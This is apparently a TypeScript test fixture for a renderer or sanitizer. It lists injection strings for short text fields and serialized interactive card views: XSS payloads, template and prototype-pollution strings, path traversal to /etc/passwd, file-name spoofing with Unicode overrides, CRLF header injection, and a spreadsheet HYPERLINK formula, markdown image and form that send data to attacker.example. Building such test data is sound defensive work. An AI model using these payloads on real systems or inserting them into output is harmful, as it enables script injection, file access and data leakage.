// Owns attacks in short texts: titles, names of files, questions, tools, options, cards.

/** Shown as one line somewhere. */
export const nameAttacks: readonly string[] = [
  '<img src=x onerror=attacked()>',
  '"><svg onload=attacked()>',
  "' onmouseover='attacked()",
  '</title><script>attacked()</script>',
  '{{constructor.constructor("attacked()")()}}',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\a.exe',
  'C:\\Windows\\a.exe',
  'CON',
  'invoice\u202efdp.exe',
  'a\u0000.html',
  'report.pdf.html',
  'a".html; filename="b.exe',
  'x\r\nSet-Cookie: a=b',
  'javascript:attacked()',
  '=HYPERLINK("https://attacker.example","x")',
  '\u2066\u202e\u2069'.repeat(20),
  'ａ'.repeat(500),
  '<a href=javascript:attacked()>x</a>',
  '![x](https://attacker.example/leak.png)',
]

const [image = ''] = nameAttacks
const link = 'javascript:attacked()'
const leak = 'https://attacker.example/leak.png'

/** Views of interactive cards, as the text in which the service sends them. */
export const widgetAttacks: readonly string[] = [
  { type: 'Card', children: [{ type: 'Text', value: image }] },
  { type: 'Card', children: [{ type: 'Markdown', value: `${image} [x](${link}) ![x](${leak})` }] },
  { type: 'Card', children: [{ type: 'Image', src: leak, alt: image }] },
  { type: 'Card', children: [{ type: 'Image', src: link }] },
  { type: 'Card', background: `url(${leak})`, children: [] },
  { type: 'Card', style: { background: `url(${leak})` }, class: 'x', onclick: 'attacked()', children: [] },
  { type: 'Button', label: image, onClickAction: { type: 'sys.go_to_url', payload: { url: link } } },
  { type: 'Button', label: 'x', href: link, onClick: 'attacked()' },
  {
    type: 'Form',
    action: 'https://attacker.example',
    method: 'post',
    children: [{ type: 'Input', name: 'q' }],
  },
  {
    type: 'Form',
    onSubmitAction: { type: '__proto__', payload: {} },
    children: [{ type: 'Button', submit: true, label: 'x' }],
  },
  { type: 'script', children: ['attacked()'] },
  { type: 'iframe', src: link },
  { type: '__proto__', children: [{ type: 'constructor' }] },
  { type: 'Html', html: image },
  { type: 'Icon', name: image },
  { type: 'Chart', option: { graphic: { type: 'image', style: { image: leak } } } },
  { type: 'Table', columns: [image], rows: [[`[x](${link})`]] },
  { type: 'Link', href: link, label: 'x' },
  { type: 'Select', name: 'x', options: [{ label: image, value: link }] },
  Array.from({ length: 60 }).reduce<object>((inner) => ({ type: 'Col', children: [inner] }), {
    type: 'Text',
    value: 'deep',
  }),
  { type: 'Col', children: Array.from({ length: 4000 }, () => ({ type: 'Text', value: 'x' })) },
].map((view) => JSON.stringify(view))
